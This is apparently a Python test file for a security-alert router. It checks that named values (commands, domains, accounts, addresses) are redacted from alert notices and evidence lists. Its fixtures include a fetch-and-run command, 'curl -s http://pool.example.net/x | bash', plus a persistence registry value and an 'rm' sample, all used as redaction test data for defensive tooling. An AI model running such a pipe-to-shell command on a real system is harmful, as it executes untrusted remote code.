"""What is withheld by an item of the evidence is what the item names, without the words that stand around it there."""

from __future__ import annotations

from typing import Any

from router.destinations.wording.changes import changes_between
from router.destinations.wording.withholding import WITHHELD, names_in, values_in, withheld_from
from router.domain.entities import Entities
from router.domain.evidence import Evidence
from router.parse.entity_facts import facts_of
from tests.destinations.builders import a_notice

COMMAND = "curl -s http://pool.example.net/x | bash"

ENTITIES: list[dict[str, Any]] = [
    {"Type": "process", "CommandLine": COMMAND, "ProcessId": "0x5d1"},
    {
        "Type": "process", "CommandLine": "-c a: b", "ProcessId": "7", "Account": {"Type": "account", "Name": "ada"},
        "ImageFile": {"Type": "file", "Directory": "C:\\Program Files", "Name": "x.exe"},
        "ParentProcess": {"Type": "process", "ImageFile": {"Type": "file", "Name": "cmd.exe"}},
    },
    {"Type": "process", "ProcessId": "1489", "ImageFile": {"Type": "file", "Directory": "/usr/bin", "Name": "curl"}},
    {"Type": "dns", "DomainName": "pool.example.net", "IpAddresses": ["198.51.100.23", "198.51.100.24"]},
    {"Type": "account", "Name": "ada", "NTDomain": "CORP"},
    {"Type": "account", "Name": "ada", "UPNSuffix": "corp.example"},
    {"Type": "host", "HostName": "web-1", "DnsDomain": "corp.example"},
    {"Type": "filehash", "Algorithm": "SHA256", "Value": "ab" * 32},
    {"Type": "malware", "Name": "Coinminer", "Category": "Trojan"},
    {"Type": "file", "Directory": "C:\\Users", "Name": "x.exe"},
    {"Type": "registry-key", "Hive": "LocalMachine", "Key": "Software\\Run"},
    {"Type": "registry-value", "Key": {"Type": "registry-key", "Key": "Run"}, "Name": "evil", "Value": "C:\\evil.exe"},
    {"Type": "cloud-logon-session", "SessionId": "s-1234", "Application": "Portal", "UserAgent": "curl/8"},
    {"Type": "cloud-application", "Name": "mail app", "InstanceName": "two", "AppId": "1234"},
    {"Type": "iotdevice", "DeviceName": "pump", "DeviceId": "d-1", "Model": "P1"},
    {"Type": "mailbox", "MailboxPrimaryAddress": "ada@x.example", "DisplayName": "Ada L"},
    {"Type": "blob", "Name": "pay.zip", "Url": "https://x.example/c/pay.zip"},
    {"Type": "ip", "Address": "198.51.100.7", "Location": {"City": "Berlin", "CountryName": "Germany", "Asn": 3320}},
    {"Type": "url", "Url": "https://x", "ThreatIntelligence": {"ThreatName": "Botnet", "ReportLink": "https://r/1"}},
    {"Type": "mail-message", "P2Sender": "a@x.example", "Recipient": "b@x.example", "Subject": "Invoice: 7"},
    {"Type": "new-thing", "Name": "thing-1"},
]  # fmt: skip


def test_every_name_that_an_entity_has_in_the_evidence_is_known_there() -> None:
    """What the parser says that a thing is called is among the values of its item, but for process ids."""
    for entity in ENTITIES:
        facts = list(facts_of(next(iter(Entities([entity])))))
        assert facts, entity
        for fact in facts:
            numbers = {entity.get("ProcessId"), f"({entity.get('ProcessId')})"}
            assert set(fact.names) - numbers <= set(values_in(fact.listed, fact.words)), fact


ANNOTATED = [f"{COMMAND}{behind}" for behind in (
    "", " (0x5d1)", " (1489)", " (0x5d1), by CORP\\ada", ", by ada", ", child of sshd -D", " (0x5d1), child of sshd -D (77)",
    " (0x5d1), by ada, child of sh -c a, b (1)",
)]  # fmt: skip


def test_a_process_is_withheld_by_its_bare_command() -> None:
    """The whole command goes from every text, however its item is annotated."""
    for item in ANNOTATED:
        assert COMMAND in names_in("processes", item)
        notice = a_notice(
            title=f"Ran {COMMAND.upper()}",
            description=f"Someone ran '{COMMAND}' there.",
            remediation=(f"Stop {COMMAND.replace(' ', '  ')}",),
            evidence=Evidence(processes=(item,), commands=(COMMAND, "ls")),
            extended={"Command": COMMAND, "JSON": f'{{"a": "{COMMAND}"}}'},
            unlisted=("Command", "JSON"),
        )
        told = withheld_from(notice, {"processes"})
        assert (told.title, told.description) == (f"Ran {WITHHELD}", f"Someone ran '{WITHHELD}' there.")
        assert told.remediation == (f"Stop {WITHHELD}",)
        assert told.evidence == Evidence(commands=("ls",))
        assert told.extended == {"JSON": f'{{"a": "{WITHHELD}"}}'}


def test_an_item_names_what_stands_in_it() -> None:
    """An image and the command line behind it; a registry value and its data; both ends of a connection."""
    item = "C:\\Program Files\\x.exe: run: all (7), by SHOP\\ada, child of cmd.exe"
    assert {"run: all", "C:\\Program Files\\x.exe", "x.exe"} <= set(names_in("processes", item))
    assert names_in("processes", "echo a: b (7)") == ("echo a: b (7)", "echo a: b")
    assert {"Wuhan", "China", "AS4837"} <= set(values_in("locations", "192.0.2.1: Wuhan, China (AS4837, x)"))
    assert {"C:\\a.exe --pin = 123", "x"} <= set(values_in("registry_values", "HKLM\\Run\\x = C:\\a.exe --pin = 123"))
    assert {"b -> c TCP", "b"} <= set(values_in("connections", "a -> b -> c TCP"))
    # The parent of a process is one, whatever list tells of it.
    evidence = Evidence(processes=("ls (1), child of sshd -D (77)",))
    told = withheld_from(a_notice(description="sshd -D did", evidence=evidence), {"processes"})
    assert told.description == f"{WITHHELD} did"


def test_a_domain_is_withheld_without_its_addresses() -> None:
    """Neither description nor processes have it; the addresses are another list's."""
    notice = a_notice(
        description="It reached Pool.example.net at 198.51.100.23.",
        evidence=Evidence(
            domains=("pool.example.net (198.51.100.23)",), processes=(f"{COMMAND} (0x5d1)",), ips=("198.51.100.23",)
        ),
    )
    told = withheld_from(notice, {"domains"})
    assert told.description == f"It reached {WITHHELD} at 198.51.100.23."
    assert told.evidence == Evidence(processes=(f"curl -s http://{WITHHELD}/x | bash (0x5d1)",), ips=("198.51.100.23",))


def test_a_short_value_goes_from_the_words_that_items_have_of_ours() -> None:
    """Three characters are not looked for in texts, yet in what we put behind an item they are a value of their own."""
    notice = a_notice(
        description="adapt it",
        evidence=Evidence(accounts=("CORP\\ada", "bob"), processes=("ls (1), by ada, child of sh", "nada, x")),
    )
    told = withheld_from(notice, {"accounts"})
    assert told.evidence == Evidence(processes=(f"ls (1), by {WITHHELD}, child of sh", "nada, x"))
    assert told.description == "adapt it"
    by_property = withheld_from(a_notice(extended={"who": "ada"}, evidence=notice.evidence), {"who"})
    assert by_property.evidence.accounts == ("bob",)


def test_an_item_that_only_mentions_a_value_stays() -> None:
    """A mail is not its sender, and a domain not its address."""
    mail, domain = "ann@x.example -> bob@x.example: Hi", "y.example (198.51.100.7)"
    notice = a_notice(
        evidence=Evidence(accounts=("ann@x.example",), ips=("198.51.100.7",), domains=(domain,), emails=(mail,))
    )
    by_account, by_address = (withheld_from(notice, {name}).evidence for name in ("accounts", "ips"))
    assert (by_account.emails, by_account.domains) == ((f"{WITHHELD} -> bob@x.example: Hi",), (domain,))
    assert (by_address.emails, by_address.domains) == ((mail,), (f"y.example ({WITHHELD})",))


def test_a_long_value_is_known_where_a_text_cuts_it() -> None:
    """A placeholder takes 300 characters, and an item 4,000."""
    command = "start " + " ".join(f"arg{number}" for number in range(1000)) + " end"
    for cut in (299, 250, 4000):
        quoted = f"Ran {command[:cut]}…" if cut < 4000 else f"Ran {command}"
        item = command if cut < 4000 else f"{command[:3990]}… [cut]"
        told = withheld_from(a_notice(description=quoted, evidence=Evidence(commands=(item,))), {"commands"})
        assert told.description == f"Ran {WITHHELD}"


def test_a_value_is_known_in_json_in_html_and_in_an_address() -> None:
    """A property may be JSON that has the command as one text of many; each name of a list that a property holds is one.

    What is shorter than four characters stands in too many words, and a sentence with a comma is no list.
    """
    for quoted in (
        'bash -c \\"rm /x\\"', "bash -c &quot;rm /x&quot;", "bash%20-c%20%22rm%20%2Fx%22", 'bash\n-c  "rm /x"',
    ):  # fmt: skip
        notice = a_notice(description=f"a {quoted} b", evidence=Evidence(commands=('bash -c "rm /x"',)))
        assert withheld_from(notice, {"commands"}).description == f"a {WITHHELD} b"
    for value, text, told in (
        ("alice, bobby", "alice, then Bobby", f"{WITHHELD}, then {WITHHELD}"),
        ('["alice", "bobby"]', "alice, then Bobby", f"{WITHHELD}, then {WITHHELD}"),
        ("alice;bobby", "alice, then Bobby", f"{WITHHELD}, then {WITHHELD}"),
        ("the user, an admin, left", "the user left", "the user left"),
        ("abc", "it is abc", "it is abc"),
        ("abcd", "it is abcd", f"it is {WITHHELD}"),
    ):
        assert withheld_from(a_notice(description=text, extended={"p": value}), {"p"}).description == told


def test_a_withheld_value_is_taken_out_of_lists_and_replaced_in_texts() -> None:
    """A whole item of a list goes; within a text a mark stands in its place; a link that has it is left out."""
    notice = a_notice(
        title="Sign-in of Alice",
        description="alice used php",
        extended={"User name": "alice, bob", "Id": "4", "tool": "php"},
        evidence=Evidence(accounts=("Alice", "bob", "carol"), processes=("su alice, bob",)),
        link="https://x.example/alice,%20bob",
        compromised_entity="bob",
    )
    told = withheld_from(notice, {"username"})
    assert told.evidence == Evidence(accounts=("carol",), processes=(f"su {WITHHELD}",))
    assert told.extended == {"Id": "4", "tool": "php"}
    assert told.compromised_entity is None
    listed = withheld_from(notice, {"accounts"})
    assert (listed.title, listed.description) == (f"Sign-in of {WITHHELD}", f"{WITHHELD} used php")
    assert listed.evidence.accounts == ()
    assert listed.link is None


def test_where_nothing_is_withheld_a_notice_is_itself() -> None:
    """No name, or none that the notice has, changes nothing."""
    notice = a_notice()
    assert withheld_from(notice, set()) is notice
    assert withheld_from(notice, {"nothing"}) == notice


def test_what_is_withheld_spoils_no_mark_and_is_named_nowhere() -> None:
    """A mark is never looked at again; a property that says what is withheld is neither evidence nor among what changed."""
    notice = a_notice(description="it was canary", extended={"p": "canary", "q": "held"})
    assert withheld_from(notice, {"p", "q"}).description == f"it was {WITHHELD}"
    told = withheld_from(a_notice(extended={"p": "canary", "q": "canary"}, unlisted=("p", "q")), {"p"})
    assert (told.extended, told.unlisted, changes_between(told, told)) == ({}, (), ())
